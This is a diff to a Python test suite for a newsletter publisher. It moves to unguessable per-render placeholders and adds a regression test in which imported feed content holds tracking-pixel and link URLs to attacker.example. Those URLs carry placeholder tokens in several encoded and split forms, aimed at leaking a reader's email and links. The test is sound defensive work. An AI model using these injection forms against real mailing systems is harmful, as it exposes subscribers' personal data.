@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import email
+import html
+import re
 import email.policy
 from datetime import datetime, timedelta, timezone
 
@@ -12,7 +14,7 @@ from publisher.digest import Digest, select
 from publisher.errors import TemplateError
 from publisher.importers.textpage import read_textpage
 from publisher.message import compile_message
-from publisher.model import PLACEHOLDERS, Article
+from publisher.model import Article, new_placeholders
 from publisher.render import HTML_BUDGET, Personaliser, personalise, render_digest
 from tests.conftest import AS_OF_002, SEED_002
 
@@ -65,7 +67,7 @@ def eml(site):
 
 
 def test_the_19_article_issue_is_one_clean_multipart_alternative_message(eml):
-    _, raw = eml
+    rendered, raw = eml
     message = email.message_from_bytes(raw, policy=email.policy.default)
     assert [part.get_content_type() for part in message.iter_parts()] == ["text/plain", "text/html"]
     assert all(not part.defects for part in message.walk())
@@ -74,7 +76,7 @@ def test_the_19_article_issue_is_one_clean_multipart_alternative_message(eml):
     html = message.get_body(("html",)).get_content()
     assert len(html.encode("utf-8")) < GMAIL_CLIP
     text = message.get_body(("plain",)).get_content()
-    for token in PLACEHOLDERS.values():
+    for token in rendered.placeholders.values():
         assert token not in html and token not in text
     assert RECIPIENT["unsubscribe_url"] in html and RECIPIENT["unsubscribe_url"] in text
     assert RECIPIENT["preferences_url"] in html and "ada@example.com" in html
@@ -91,7 +93,8 @@ def test_the_html_has_the_design_the_issue_describes(eml, site):
     assert html.count("Continue reading →") == 19  # every teaser here is shorter than its article
     assert "https://news.example.org/archive/weekly/1.html" in html  # view in browser
     assert "1 Sample Street, Exampletown, EX1 2MP" in html
-    assert PLACEHOLDERS["unsubscribe_url"] in html and PLACEHOLDERS["preferences_url"] in html
+    tokens = rendered.placeholders
+    assert tokens["unsubscribe_url"] in html and tokens["preferences_url"] in html
     titles = [a.title for a in seed_articles()]
     positions = [html.find(title.replace("’", "’")) for title in titles]
     assert -1 not in positions and positions == sorted(positions)
@@ -108,16 +111,53 @@ def test_the_text_part_reads_on_its_own(eml):
     assert positions == sorted(positions)
     assert "Continue reading: https://news.example.org/is-china-a-threat/" in text
     assert "<p>" not in text and "&amp;" not in text and "\n\n\n" not in text
-    assert f"Unsubscribe: {PLACEHOLDERS['unsubscribe_url']}" in text
+    assert f"Unsubscribe: {rendered.placeholders['unsubscribe_url']}" in text
 
 
 def test_personalise_fills_every_placeholder_and_escapes_html():
-    compiled = " ".join(PLACEHOLDERS.values()) + " end"
-    html = personalise(compiled, RECIPIENT, is_html=True)
+    tokens = new_placeholders()
+    compiled = " ".join(tokens.values()) + " end"
+    html = personalise(compiled, tokens, RECIPIENT, is_html=True)
     assert "Ada &lt;Lovelace&gt; &amp; co" in html and "@@" not in html
-    assert personalise(compiled, RECIPIENT) == Personaliser(compiled).fill(RECIPIENT)
-    assert Personaliser(compiled, is_html=True).fill(RECIPIENT) == html
-    assert personalise(compiled, {}) == "    end"
+    assert personalise(compiled, tokens, RECIPIENT) == Personaliser(compiled, tokens).fill(RECIPIENT)
+    assert Personaliser(compiled, tokens, is_html=True).fill(RECIPIENT) == html
+    assert personalise(compiled, tokens, {}) == "    end"
+
+
+def test_each_render_mints_its_own_unguessable_placeholders(site):
+    settings = site()
+    first, second = render(settings), render(settings)
+    assert first.placeholders.keys() == second.placeholders.keys()
+    assert set(first.placeholders.values()).isdisjoint(second.placeholders.values())
+
+
+HOSTILE_FORMS = [
+    "@@EMAIL@@", "@@UNSUBSCRIBE_URL@@", "@@PREFERENCES_URL@@", "@@NAME@@",  # the tokens of 0.1
+    "&#64;&#64;EMAIL&#64;&#64;", "&#x40;&#x40;UNSUBSCRIBE_URL&#x40;&#x40;",  # entity-encoded
+    "%40%40EMAIL%40%40", "@@EM<!-- -->AIL@@", "@@<b></b>EMAIL@@",  # escaped and split
+]
+
+
+@pytest.mark.parametrize("form", HOSTILE_FORMS)
+def test_imported_content_cannot_fill_in_a_readers_address_or_links(site, form):
+    """A feed item that writes placeholders into an image URL gets them back as plain text."""
+    settings = site()
+    bait = (f'<p>Look <img src="https://attacker.example/t.gif?e={form}" alt="x">'
+            f'<a href="https://attacker.example/l?u={form}">{form}</a></p>')
+    article = Article(guid="bait", slug="bait", title=f"Bait {form}", url="https://news.example.org/bait/",
+                      summary_html=bait, content_html=bait, truncated=False, published=SLOT - timedelta(hours=1),
+                      updated=SLOT - timedelta(hours=1), id=1)
+    rendered = render(settings, [article])
+    compiled = compile_message(rendered, settings=settings, newsletter=settings.newsletter("weekly"), issue_number=1)
+    message = email.message_from_bytes(compiled.personalise(subscriber_id=7, **RECIPIENT), policy=email.policy.default)
+    secrets = ("ada@example.com", "abc.def", "ghi.jkl", "Lovelace")
+    for part in ("html", "plain"):
+        body = html.unescape(message.get_body((part,)).get_content())
+        urls = re.findall(r"attacker\.example[^\"'\s<>]*", body)
+        titles = re.findall(r"Bait [^<\n]*", body)
+        assert titles and (urls or part == "plain"), part
+        assert [u for u in urls + titles if any(secret in u for secret in secrets)] == [], part
+    assert "ada@example.com" in message.get_body(("html",)).get_content()  # the footer still says who
 
 
 def test_sections_by_tag_head_their_articles(site):
